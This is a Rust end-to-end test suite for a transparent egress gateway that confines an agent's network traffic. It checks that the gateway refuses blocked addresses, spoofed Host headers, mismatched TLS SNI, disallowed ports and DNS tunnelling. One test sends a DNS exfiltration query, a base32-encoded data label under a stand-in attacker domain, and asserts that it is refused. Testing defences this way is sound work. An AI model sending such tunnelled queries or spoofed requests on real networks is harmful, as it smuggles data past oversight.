//! Transparent mode end to end, in network namespaces the test makes for itself: an upstream
//! namespace with canary servers, an agent namespace with `clawgate net rules --apply`,
//! clawgate (the built binary) running there as an exempt user, and the agent's commands
//! (curl, bash, raw sockets) running as another user. The canaries record every connection
//! and datagram that reaches them, so "never reached" is observed, not assumed.

use std::io::{Read, Write};
use std::net::{IpAddr, Shutdown, SocketAddr, TcpStream, UdpSocket};
use std::path::{Path, PathBuf};
use std::process::{Child, Stdio};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use hickory_proto::op::{Message, MessageType, OpCode, Query, ResponseCode};
use hickory_proto::rr::{Name, RData, Record, RecordType, rdata::A};
use serde_json::{Value, json};

use crate::common::BIN;
use crate::common::netns::{AGENT, NetLab, UP, UP_BLOCKED, UP_OTHER, UP6, UP6_BLOCKED};

/// clawgate's user (exempt from the rules) and the agent's.
const CLAWGATE_UID: u32 = 61_001;
const AGENT_UID: u32 = 61_002;

/// What reached a canary: on which port and address, from whom, and the first bytes.
#[derive(Debug, Clone)]
struct Hit {
    port: u16,
    local: IpAddr,
    peer: IpAddr,
    first: Vec<u8>,
}

type Hits = Arc<Mutex<Vec<Hit>>>;

fn canon(ip: IpAddr) -> IpAddr {
    match ip {
        IpAddr::V6(v6) => v6.to_ipv4_mapped().map(IpAddr::V4).unwrap_or(ip),
        v4 => v4,
    }
}

/// TCP canaries on [::] (both families) in the upstream namespace: 80 answers HTTP, 7000
/// answers `pong`, 443 and 7001 only listen.
fn start_tcp_canaries(lab: &NetLab, hits: &Hits) {
    for port in [80u16, 443, 7000, 7001] {
        let listener = lab.within(&lab.up, None, move || {
            let l = std::net::TcpListener::bind(("::", port)).expect("canary bind");
            l.set_nonblocking(true).unwrap();
            l
        });
        let listener = tokio::net::TcpListener::from_std(listener).unwrap();
        let hits = hits.clone();
        tokio::spawn(async move {
            loop {
                let Ok((mut s, peer)) = listener.accept().await else {
                    return;
                };
                let hits = hits.clone();
                tokio::spawn(async move {
                    use tokio::io::{AsyncReadExt, AsyncWriteExt};
                    let local = s.local_addr().unwrap().ip();
                    let mut first = Vec::new();
                    let mut buf = [0u8; 65536];
                    let deadline = tokio::time::Instant::now() + Duration::from_millis(800);
                    while let Ok(Ok(n)) = tokio::time::timeout_at(deadline, s.read(&mut buf)).await
                    {
                        if n == 0 {
                            break;
                        }
                        first.extend_from_slice(&buf[..n]);
                        if port == 80 && first.windows(4).any(|w| w == b"\r\n\r\n") {
                            break;
                        }
                        if port == 7000 {
                            break;
                        }
                    }
                    hits.lock().unwrap().push(Hit {
                        port,
                        local: canon(local),
                        peer: canon(peer.ip()),
                        first,
                    });
                    match port {
                        80 => {
                            let _ = s
                                .write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\nConnection: close\r\n\r\ncanary")
                                .await;
                        }
                        7000 => {
                            let _ = s.write_all(b"pong").await;
                        }
                        _ => {}
                    }
                    let _ = s.shutdown().await;
                });
            }
        });
    }
}

/// A UDP canary on port 9999 and a DNS server on 53 (both families) that answers every A
/// question with [`UP`].
fn start_udp_canaries(lab: &NetLab, hits: &Hits) {
    for port in [9999u16, 53] {
        let socket = lab.within(&lab.up, None, move || {
            let s = UdpSocket::bind(("::", port)).expect("udp canary bind");
            s.set_nonblocking(true).unwrap();
            s
        });
        let socket = tokio::net::UdpSocket::from_std(socket).unwrap();
        let hits = hits.clone();
        tokio::spawn(async move {
            let mut buf = [0u8; 4096];
            loop {
                let Ok((n, peer)) = socket.recv_from(&mut buf).await else {
                    return;
                };
                let local = socket.local_addr().unwrap().ip();
                hits.lock().unwrap().push(Hit {
                    port,
                    local,
                    peer: canon(peer.ip()),
                    first: buf[..n].to_vec(),
                });
                if port == 53
                    && let Ok(q) = Message::from_vec(&buf[..n])
                {
                    let mut answer = Message::response(q.metadata.id, OpCode::Query);
                    answer.add_queries(q.queries.clone());
                    if let Some(query) = q.queries.first() {
                        answer.add_answer(Record::from_rdata(
                            query.name().clone(),
                            60,
                            RData::A(A(UP)),
                        ));
                    }
                    let _ = socket.send_to(&answer.to_vec().unwrap(), peer).await;
                }
            }
        });
    }
}

/// The shipped bundle with the upstream's allowed addresses reachable, ports 80, 443 and
/// 7000 usual (others denied, not held), and `trusted.test` a trusted API host.
fn bundle(dir: &Path) -> PathBuf {
    let src = Path::new(env!("CARGO_MANIFEST_DIR")).join("policies");
    let out = dir.join("policy");
    std::fs::create_dir_all(&out).unwrap();
    for entry in std::fs::read_dir(&src).unwrap() {
        let path = entry.unwrap().path();
        std::fs::copy(&path, out.join(path.file_name().unwrap())).unwrap();
    }
    let data_path = out.join("data.json");
    let mut data: Value = serde_json::from_slice(&std::fs::read(&data_path).unwrap()).unwrap();
    let net = &mut data["clawgate"]["network"];
    net["allowed_cidrs"] = json!([
        format!("{UP}/32"),
        format!("{UP_OTHER}/32"),
        format!("{UP6}/128")
    ]);
    net["allowed_connect_ports"] = json!([80, 443, 7000]);
    net["unusual_port_rule"]["effect"] = json!("deny");
    data["clawgate"]["http"]["trusted_hosts"]
        .as_array_mut()
        .unwrap()
        .push(json!("trusted.test"));
    std::fs::write(&data_path, serde_json::to_vec_pretty(&data).unwrap()).unwrap();
    out
}

/// clawgate running in the agent namespace as [`CLAWGATE_UID`]; killed when dropped.
struct Clawgate {
    child: Child,
    dir: tempfile::TempDir,
}

impl Clawgate {
    fn start(lab: &NetLab) -> Clawgate {
        Clawgate::start_in(lab, tempfile::tempdir().unwrap(), "", "")
    }

    /// Start with its state in `dir`, `egress` lines added to the `[egress]` table and
    /// `extra` tables at the end.
    fn start_in(lab: &NetLab, dir: tempfile::TempDir, egress: &str, extra: &str) -> Clawgate {
        let policy = bundle(dir.path());
        let config = dir.path().join("clawgate.toml");
        std::fs::write(
            &config,
            format!(
                "data_dir = \"{data}\"\nenvironment = \"production\"\n\
                 [policy]\ndir = \"{policy}\"\n\
                 [approval]\nhold_s = 0\n\
                 [egress]\nresolve_timeout_ms = 1000\n{egress}\n\
                 [egress.resolve]\n\"allowed.test\" = [\"{UP}\", \"{UP6}\"]\n\"trusted.test\" = [\"{UP}\"]\n\
                 [listeners.transparent]\npeek_timeout_ms = 500\ndns_upstream = \"{UP}:53\"\n{extra}",
                data = dir.path().join("data").display(),
                policy = policy.display(),
            ),
        )
        .unwrap();
        let chown = std::process::Command::new("chown")
            .args(["-R", &format!("{CLAWGATE_UID}:{CLAWGATE_UID}")])
            .arg(dir.path())
            .status()
            .unwrap();
        assert!(chown.success());
        let log = dir.path().join("serve.log");
        let child = lab
            .command(&lab.agent, Some(CLAWGATE_UID), BIN)
            .args(["serve", "--config"])
            .arg(&config)
            .stdout(Stdio::null())
            .stderr(std::fs::File::create(&log).unwrap())
            .spawn()
            .unwrap();
        let mut me = Clawgate { child, dir };
        let deadline = Instant::now() + Duration::from_secs(30);
        loop {
            let said = me.log();
            if said.contains("clawgate listening") {
                break;
            }
            if let Ok(Some(status)) = me.child.try_wait() {
                panic!("clawgate exited ({status}):\n{said}");
            }
            assert!(Instant::now() < deadline, "clawgate did not start:\n{said}");
            std::thread::sleep(Duration::from_millis(50));
        }
        me
    }

    fn log(&self) -> String {
        std::fs::read_to_string(self.dir.path().join("serve.log")).unwrap_or_default()
    }

    /// Every decision entry of the audit log, read through the admin listener by clawgate's
    /// own user (the only one whose loopback traffic is not redirected).
    fn decisions(&self, lab: &NetLab) -> Vec<Value> {
        let out = lab
            .command(&lab.agent, Some(CLAWGATE_UID), BIN)
            .args([
                "audit",
                "export",
                "--url",
                "http://127.0.0.1:9482",
                "--token-file",
            ])
            .arg(self.dir.path().join("data/admin.token"))
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "audit export: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8_lossy(&out.stdout)
            .lines()
            .filter_map(|l| serde_json::from_str::<Value>(l).ok())
            .map(|v| v["entry"].clone())
            .filter(|e| e["kind"] == "decision")
            .collect()
    }
}

impl Drop for Clawgate {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// Run a command as `uid` in the agent namespace: exit code and output.
fn run_as(lab: &NetLab, uid: u32, program: &str, args: &[&str]) -> (i32, String) {
    let out = lab
        .command(&lab.agent, Some(uid), program)
        .args(args)
        .output()
        .unwrap();
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    (out.status.code().unwrap_or(-1), text)
}

fn curl(lab: &NetLab, args: &[&str]) -> (i32, String) {
    curl_as(lab, AGENT_UID, args)
}

/// curl as `uid`, ignoring every proxy setting, with the status code on the last line.
fn curl_as(lab: &NetLab, uid: u32, args: &[&str]) -> (i32, String) {
    let mut all = vec!["-sS", "-m", "10", "--noproxy", "*", "-w", "\n%{http_code}"];
    all.extend_from_slice(args);
    run_as(lab, uid, "curl", &all)
}

fn hits_on(hits: &Hits, port: u16, local: IpAddr) -> Vec<Hit> {
    hits.lock()
        .unwrap()
        .iter()
        .filter(|h| h.port == port && h.local == local)
        .cloned()
        .collect()
}

/// An agent-owned TCP connection from the agent namespace (the kernel redirects it).
fn agent_connect(lab: &NetLab, to: SocketAddr) -> TcpStream {
    lab.within(&lab.agent, Some(AGENT_UID), move || {
        let s = TcpStream::connect_timeout(&to, Duration::from_secs(5)).expect("connect");
        s.set_nodelay(true).unwrap();
        s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
        s
    })
}

/// Read until EOF or error; what came, and whether it ended in an error (a reset).
fn read_to_end(s: &mut TcpStream) -> (Vec<u8>, bool) {
    let mut out = Vec::new();
    let mut buf = [0u8; 4096];
    loop {
        match s.read(&mut buf) {
            Ok(0) => return (out, false),
            Ok(n) => out.extend_from_slice(&buf[..n]),
            Err(_) => return (out, true),
        }
    }
}

/// A real TLS ClientHello for `name` (rustls as the client), as sent on the wire.
fn client_hello(name: &str) -> Vec<u8> {
    let provider = Arc::new(rustls::crypto::aws_lc_rs::default_provider());
    let config = rustls::ClientConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()
        .unwrap()
        .with_root_certificates(rustls::RootCertStore::empty())
        .with_no_client_auth();
    let server = rustls::pki_types::ServerName::try_from(name.to_string()).unwrap();
    let mut conn = rustls::ClientConnection::new(Arc::new(config), server).unwrap();
    let mut out = Vec::new();
    while conn.wants_write() {
        conn.write_tls(&mut out).unwrap();
    }
    out
}

/// A DNS query for `name` sent by the agent over UDP to the upstream's resolver (redirected
/// to clawgate's forwarder): the answer's code and addresses, or None without an answer.
fn dns_query(lab: &NetLab, name: &str) -> Option<(ResponseCode, Vec<IpAddr>)> {
    let mut q = Message::new(0x4242, MessageType::Query, OpCode::Query);
    q.metadata.recursion_desired = true;
    q.add_query(Query::query(Name::from_ascii(name).unwrap(), RecordType::A));
    let bytes = q.to_vec().unwrap();
    let answer = lab.within(&lab.agent, Some(AGENT_UID), move || {
        // Connected, as a stub resolver's socket is: only an answer that comes back from the
        // address asked (the kernel un-NATs clawgate's reply) is received.
        let s = UdpSocket::bind("0.0.0.0:0").unwrap();
        s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
        s.connect(SocketAddr::new(IpAddr::V4(UP), 53)).ok()?;
        s.send(&bytes).ok()?;
        let mut buf = [0u8; 4096];
        let n = s.recv(&mut buf).ok()?;
        Some(buf[..n].to_vec())
    })?;
    let m = Message::from_vec(&answer).ok()?;
    assert_eq!(m.metadata.id, 0x4242);
    let ips = m
        .answers
        .iter()
        .filter_map(|r| match r.data {
            RData::A(a) => Some(IpAddr::V4(a.0)),
            _ => None,
        })
        .collect();
    Some((m.metadata.response_code, ips))
}

/// A DNS query for `name` over TCP port 53 (two-byte length prefix) from the agent: the
/// answer's code.
fn dns_query_tcp(lab: &NetLab, name: &str) -> Option<ResponseCode> {
    let mut q = Message::new(0x4343, MessageType::Query, OpCode::Query);
    q.add_query(Query::query(
        Name::from_ascii(name).unwrap(),
        RecordType::TXT,
    ));
    let bytes = q.to_vec().unwrap();
    let mut s = agent_connect(lab, SocketAddr::new(IpAddr::V4(UP), 53));
    let len = u16::try_from(bytes.len()).unwrap().to_be_bytes();
    s.write_all(&len).ok()?;
    s.write_all(&bytes).ok()?;
    let mut head = [0u8; 2];
    s.read_exact(&mut head).ok()?;
    let mut answer = vec![0u8; usize::from(u16::from_be_bytes(head))];
    s.read_exact(&mut answer).ok()?;
    let m = Message::from_vec(&answer).ok()?;
    assert_eq!(m.metadata.id, 0x4343);
    Some(m.metadata.response_code)
}

fn decision_for(decisions: &[Value], pred: impl Fn(&Value) -> bool) -> Vec<&Value> {
    decisions.iter().filter(|d| pred(&d["action"])).collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nothing_leaves_the_agent_namespace_except_through_the_gate() {
    let lab = NetLab::new();
    let hits: Hits = Arc::default();
    start_tcp_canaries(&lab, &hits);
    start_udp_canaries(&lab, &hits);
    apply_net_rules(&lab);
    let cg = Clawgate::start(&lab);
    let up = IpAddr::V4(UP);
    let blocked = IpAddr::V4(UP_BLOCKED);

    // 1. curl ignoring every proxy setting, to an allowed canary: passes, and the canary sees
    //    the agent namespace's own address (clawgate dialled directly, not through itself).
    let (code, out) = tokio::task::block_in_place(|| curl(&lab, &[&format!("http://{UP}/hello")]));
    assert_eq!(code, 0, "{out}");
    assert!(out.ends_with("canary\n200"), "{out}");
    let seen = hits_on(&hits, 80, up);
    assert_eq!(seen.len(), 1, "{seen:?}");
    assert_eq!(seen[0].peer, IpAddr::V4(AGENT));
    assert!(String::from_utf8_lossy(&seen[0].first).starts_with("GET /hello HTTP/1.1"));

    // 2. To a blocked address: 403 from clawgate, never reaches the canary.
    let (_, out) =
        tokio::task::block_in_place(|| curl(&lab, &[&format!("http://{UP_BLOCKED}/secret")]));
    assert!(out.ends_with("403"), "{out}");
    assert!(
        out.contains("denied_by_policy") && out.contains("net.private_address"),
        "{out}"
    );
    assert!(hits_on(&hits, 80, blocked).is_empty());

    // 3. A Host field that lies: the trusted name does not resolve to the dialled address, so
    //    the POST is judged as the address (a mutation needing approval), and never sent.
    let (_, out) = tokio::task::block_in_place(|| {
        curl(
            &lab,
            &[
                "-H",
                "Host: trusted.test",
                "-d",
                "x=1",
                &format!("http://{UP_OTHER}/"),
            ],
        )
    });
    assert!(out.ends_with("403"), "{out}");
    assert!(out.contains("net.unverified_host"), "{out}");
    assert!(hits_on(&hits, 80, IpAddr::V4(UP_OTHER)).is_empty());
    // The same request told truthfully (trusted.test is UP) passes.
    let (_, out) = tokio::task::block_in_place(|| {
        curl(
            &lab,
            &[
                "-H",
                "Host: trusted.test",
                "-d",
                "x=1",
                &format!("http://{UP}/"),
            ],
        )
    });
    assert!(out.ends_with("200"), "{out}");

    // 4. IPv6: allowed address passes, blocked one is refused.
    let (_, out) =
        tokio::task::block_in_place(|| curl(&lab, &["-g", &format!("http://[{UP6}]/v6")]));
    assert!(out.ends_with("canary\n200"), "{out}");
    let (_, out) =
        tokio::task::block_in_place(|| curl(&lab, &["-g", &format!("http://[{UP6_BLOCKED}]/v6")]));
    assert!(out.ends_with("403"), "{out}");
    assert!(hits_on(&hits, 80, IpAddr::V6(UP6_BLOCKED)).is_empty());

    // 5. TLS whose SNI claims an allowed host while the address is blocked: refused, the
    //    canary never sees it. The same SNI to its real address reaches the canary with the
    //    ClientHello intact (peeked, not consumed).
    let (code, out) = tokio::task::block_in_place(|| {
        curl(
            &lab,
            &[
                "--resolve",
                &format!("allowed.test:443:{UP_BLOCKED}"),
                "https://allowed.test/",
            ],
        )
    });
    assert_ne!(code, 0, "{out}");
    assert!(hits_on(&hits, 443, blocked).is_empty());
    let hello = client_hello("allowed.test");
    let mut s = agent_connect(&lab, SocketAddr::new(up, 443));
    // Split across segments: the record header and a few bytes, then the rest.
    s.write_all(&hello[..7]).unwrap();
    std::thread::sleep(Duration::from_millis(100));
    s.write_all(&hello[7..]).unwrap();
    let _ = s.shutdown(Shutdown::Write);
    let _ = read_to_end(&mut s);
    let seen = hits_on(&hits, 443, up);
    assert_eq!(seen.len(), 1, "{seen:?}");
    assert_eq!(
        seen[0].first, hello,
        "the ClientHello arrives byte for byte"
    );

    // 6. Raw TCP: an allowed port passes; a port policy refuses is closed and never reached.
    let mut s = agent_connect(&lab, SocketAddr::new(up, 7000));
    s.write_all(b"ping").unwrap();
    let (got, _) = read_to_end(&mut s);
    assert_eq!(got, b"pong");
    let mut s = agent_connect(&lab, SocketAddr::new(up, 7001));
    let _ = s.write_all(b"hello");
    let (got, _) = read_to_end(&mut s);
    assert!(got.is_empty());
    assert!(hits_on(&hits, 7001, up).is_empty());

    // 7. A client that sends nothing is closed after the peek timeout (500 ms), not held.
    let before = hits_on(&hits, 7000, up).len();
    let mut s = agent_connect(&lab, SocketAddr::new(up, 7000));
    let started = Instant::now();
    let (got, _) = read_to_end(&mut s);
    assert!(got.is_empty());
    assert!(
        started.elapsed() < Duration::from_secs(3),
        "{:?}",
        started.elapsed()
    );
    assert_eq!(hits_on(&hits, 7000, up).len(), before);

    // 8. Connecting to the transparent listener itself is refused (no loop, no judging).
    let mut s = agent_connect(&lab, "127.0.0.1:15001".parse().unwrap());
    let _ = s.write_all(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n");
    let (got, _) = read_to_end(&mut s);
    assert!(got.is_empty(), "{}", String::from_utf8_lossy(&got));

    // 9. DNS: an ordinary name is answered by the upstream resolver; a name carrying data is
    //    REFUSED and never reaches it.
    let answer = tokio::task::block_in_place(|| dns_query(&lab, "www.allowed.test"));
    assert_eq!(answer, Some((ResponseCode::NoError, vec![up])));
    let exfil = "nbswy3dpeb3w64tmmqqhi2ltebuxgidbebzwkytsmv2gc4tfmqqgs3tu.x.evil.example";
    let answer = tokio::task::block_in_place(|| dns_query(&lab, exfil));
    assert_eq!(answer, Some((ResponseCode::Refused, vec![])));
    let dns_hits = hits.lock().unwrap().iter().filter(|h| h.port == 53).count();
    assert_eq!(dns_hits, 1, "only the allowed query reached the resolver");
    // Over TCP too (the forwarder refuses before asking anyone).
    let answer = tokio::task::block_in_place(|| dns_query_tcp(&lab, exfil));
    assert_eq!(answer, Some(ResponseCode::Refused));

    // 10. UDP to any other port never leaves the namespace.
    let sent = lab.within(&lab.agent, Some(AGENT_UID), || {
        let s = UdpSocket::bind("0.0.0.0:0").unwrap();
        s.send_to(b"leak", SocketAddr::new(IpAddr::V4(UP), 9999))
            .is_ok()
    });
    std::thread::sleep(Duration::from_millis(300));
    assert!(!sent, "the kernel refuses the datagram");
    assert!(hits.lock().unwrap().iter().all(|h| h.port != 9999));

    // Every decision is in the audit log, with the facts policy judged.
    let decisions = tokio::task::block_in_place(|| cg.decisions(&lab));
    let allowed = decision_for(&decisions, |a| {
        a["kind"] == "http" && a["http"]["path"] == "/hello"
    });
    assert_eq!(allowed.len(), 1, "one decision, no loop: {allowed:?}");
    assert_eq!(allowed[0]["decision"], "allow");
    assert_eq!(allowed[0]["action"]["dest"]["ips"], json!([UP.to_string()]));
    assert_eq!(allowed[0]["action"]["dest"]["host_from"], "http_host");
    let lying = decision_for(&decisions, |a| {
        a["dest"]["host"] == "trusted.test" && a["dest"]["ips"] == json!([UP_OTHER.to_string()])
    });
    assert_eq!(lying[0]["action"]["dest"]["host_resolves"], false);
    let sni = decision_for(&decisions, |a| {
        a["kind"] == "connect"
            && a["dest"]["host_from"] == "sni"
            && a["dest"]["ips"] == json!([UP_BLOCKED.to_string()])
    });
    assert_eq!(sni.len(), 1, "{decisions:?}");
    assert_eq!(sni[0]["decision"], "deny");
    assert_eq!(sni[0]["action"]["dest"]["host"], "allowed.test");
    let raw = decision_for(&decisions, |a| {
        a["kind"] == "connect" && a["dest"]["port"] == 7001
    });
    assert_eq!(raw[0]["decision"], "deny");
    assert_eq!(raw[0]["action"]["dest"]["host_from"], "address");
    let dns = decision_for(&decisions, |a| {
        a["kind"] == "dns" && a["dns"]["name"] == exfil && a["dns"]["type"] == "A"
    });
    assert_eq!(dns.len(), 1, "{decisions:?}");
    assert_eq!(dns[0]["decision"], "deny");
    assert!(
        dns[0]["reasons"].to_string().contains("dns.long_label"),
        "{}",
        dns[0]
    );
    let log = cg.log();
    assert!(log.contains("not redirected"), "{log}");
    drop(cg);
}

/// `clawgate net rules --uid CLAWGATE_UID --apply` in the agent namespace, as the pod's init
/// container runs it.
fn apply_net_rules(lab: &NetLab) {
    let rules = lab
        .command(&lab.agent, None, BIN)
        .args([
            "net",
            "rules",
            "--uid",
            &CLAWGATE_UID.to_string(),
            "--apply",
        ])
        .output()
        .unwrap();
    assert!(
        rules.status.success(),
        "net rules --apply: {}",
        String::from_utf8_lossy(&rules.stderr)
    );
}

/// An HTTPS canary on [::]:443 in the upstream namespace with a certificate for
/// `allowed.test` from `ca`; answers "secure ok" and records each request's method and path.
fn start_https_canary(
    lab: &NetLab,
    ca: &clawgate::tls::ca::CertificateAuthority,
) -> Arc<Mutex<Vec<String>>> {
    let listener = lab.within(&lab.up, None, || {
        let l = std::net::TcpListener::bind(("::", 443)).expect("https canary bind");
        l.set_nonblocking(true).unwrap();
        l
    });
    let listener = tokio::net::TcpListener::from_std(listener).unwrap();
    crate::common::serve_https_recording(listener, ca, &["allowed.test"])
}

/// With `egress.tls_inspect`, a redirected TLS connection is terminated like a CONNECT tunnel:
/// the agent sees clawgate's minted leaf, every request inside is an `http` action, and the
/// upstream's real certificate is verified for the SNI name.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tls_inspection_judges_each_request_of_a_redirected_connection() {
    let lab = NetLab::new();
    let dir = tempfile::tempdir().unwrap();
    let certs = dir.path().join("certs");
    let init = std::process::Command::new(BIN)
        .args(["certs", "init", "--host", "allowed.test", "--dir"])
        .arg(&certs)
        .output()
        .unwrap();
    assert!(init.status.success(), "{init:?}");
    let (ca_pem, ca_key) = (certs.join("ca.pem"), certs.join("ca.key"));
    let ca = clawgate::tls::ca::CertificateAuthority::load(&ca_pem, &ca_key).unwrap();
    let seen = start_https_canary(&lab, &ca);
    apply_net_rules(&lab);
    // The agent may read the CA certificate (only that) to trust clawgate's leaves.
    let agent_ca = std::env::temp_dir().join(format!(
        "clawgate-transparent-ca-{}.pem",
        std::process::id()
    ));
    std::fs::copy(&ca_pem, &agent_ca).unwrap();
    let egress = format!(
        "tls_inspect = true\nca_cert = \"{}\"\nca_key = \"{}\"\nextra_roots = [\"{}\"]",
        ca_pem.display(),
        ca_key.display(),
        ca_pem.display()
    );
    let cg = Clawgate::start_in(&lab, dir, &egress, "");
    let resolve = format!("allowed.test:443:{UP}");
    let cacert = agent_ca.display().to_string();

    let (code, out) = tokio::task::block_in_place(|| {
        curl(
            &lab,
            &[
                "--cacert",
                &cacert,
                "--resolve",
                &resolve,
                "https://allowed.test/inspected",
            ],
        )
    });
    assert_eq!(code, 0, "{out}\n{}", cg.log());
    assert!(out.ends_with("secure ok\n200"), "{out}");
    // A mutation inside the same kind of connection needs approval: 403 inside the tunnel.
    let (_, out) = tokio::task::block_in_place(|| {
        curl(
            &lab,
            &[
                "--cacert",
                &cacert,
                "--resolve",
                &resolve,
                "-X",
                "DELETE",
                "https://allowed.test/danger",
            ],
        )
    });
    assert!(out.ends_with("403"), "{out}");
    assert!(out.contains("approval_pending"), "{out}");
    assert_eq!(*seen.lock().unwrap(), vec!["GET /inspected".to_string()]);

    let decisions = tokio::task::block_in_place(|| cg.decisions(&lab));
    let connects = decision_for(&decisions, |a| a["kind"] == "connect");
    assert_eq!(connects.len(), 2, "{decisions:?}");
    assert_eq!(connects[0]["action"]["dest"]["host_from"], "sni");
    assert_eq!(connects[0]["action"]["dest"]["host_resolves"], true);
    let inside = decision_for(&decisions, |a| {
        a["kind"] == "http" && a["http"]["scheme"] == "https"
    });
    let paths: Vec<_> = inside
        .iter()
        .map(|d| (d["action"]["http"]["path"].clone(), d["decision"].clone()))
        .collect();
    assert_eq!(
        paths,
        vec![
            (json!("/inspected"), json!("allow")),
            (json!("/danger"), json!("pending"))
        ]
    );
    let _ = std::fs::remove_file(&agent_ca);
}

/// A redirected connection carries no credential; the user owning the agent's socket names
/// the identity (`[identities.NAME] uid`), whose scopes then apply, and a user no identity
/// names is judged as `uid:N`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn redirected_connections_are_the_identity_of_the_user_that_opened_them() {
    const OTHER_UID: u32 = 61_003;
    let lab = NetLab::new();
    let hits: Hits = Arc::default();
    start_tcp_canaries(&lab, &hits);
    start_udp_canaries(&lab, &hits);
    apply_net_rules(&lab);
    let cg = Clawgate::start_in(
        &lab,
        tempfile::tempdir().unwrap(),
        "",
        &format!(
            "[identities.sandboxed]\nuid = {AGENT_UID}\n\
             [identities.sandboxed.scopes]\negress_hosts = [\"trusted.test\"]\n"
        ),
    );
    let run_as = |uid: u32, args: &[&str]| curl_as(&lab, uid, args).1;
    // The agent's user, to the host its scope names (trusted.test is UP): passes.
    let out = tokio::task::block_in_place(|| {
        run_as(
            AGENT_UID,
            &["-H", "Host: trusted.test", &format!("http://{UP}/in-scope")],
        )
    });
    assert!(out.ends_with("200"), "{out}");
    // The same user to the bare address: outside its egress_hosts, refused, never sent.
    let out =
        tokio::task::block_in_place(|| run_as(AGENT_UID, &[&format!("http://{UP}/out-of-scope")]));
    assert!(out.ends_with("403"), "{out}");
    assert!(out.contains("not scoped for egress host"), "{out}");
    // Another user no identity names: judged unscoped, as uid:61003.
    let out =
        tokio::task::block_in_place(|| run_as(OTHER_UID, &[&format!("http://{UP}/other-user")]));
    assert!(out.ends_with("200"), "{out}");
    let paths: Vec<String> = hits
        .lock()
        .unwrap()
        .iter()
        .map(|h| String::from_utf8_lossy(&h.first).into_owned())
        .collect();
    assert!(paths.iter().any(|p| p.starts_with("GET /in-scope")));
    assert!(paths.iter().any(|p| p.starts_with("GET /other-user")));
    assert!(
        !paths.iter().any(|p| p.contains("/out-of-scope")),
        "{paths:?}"
    );

    let decisions = cg.decisions(&lab);
    let by_path = |path: &str| {
        decision_for(&decisions, |a| {
            a["kind"] == "http" && a["http"]["path"] == path
        })
        .first()
        .map(|d| d["agent"].clone())
        .unwrap_or_else(|| panic!("no decision for {path}: {decisions:?}"))
    };
    for path in ["/in-scope", "/out-of-scope"] {
        let agent = by_path(path);
        assert_eq!(agent["authenticated_as"], "sandboxed", "{path}: {agent}");
        assert_eq!(agent["id"], "sandboxed", "{path}: {agent}");
    }
    let other = by_path("/other-user");
    assert_eq!(other["id"], format!("uid:{OTHER_UID}"), "{other}");
    assert!(other.get("authenticated_as").is_none(), "{other}");

    // DNS queries are the querying socket's owner's too, over UDP and TCP.
    let udp = tokio::task::block_in_place(|| dns_query(&lab, "www.allowed.test"));
    assert!(udp.is_some());
    let tcp = tokio::task::block_in_place(|| dns_query_tcp(&lab, "tcp.allowed.test"));
    assert!(tcp.is_some());
    let decisions = cg.decisions(&lab);
    for name in ["www.allowed.test", "tcp.allowed.test"] {
        let dns = decision_for(&decisions, |a| {
            a["kind"] == "dns" && a["dns"]["name"] == name
        });
        assert_eq!(dns.len(), 1, "{name}: {decisions:?}");
        assert_eq!(dns[0]["agent"]["authenticated_as"], "sandboxed", "{name}");
    }
}
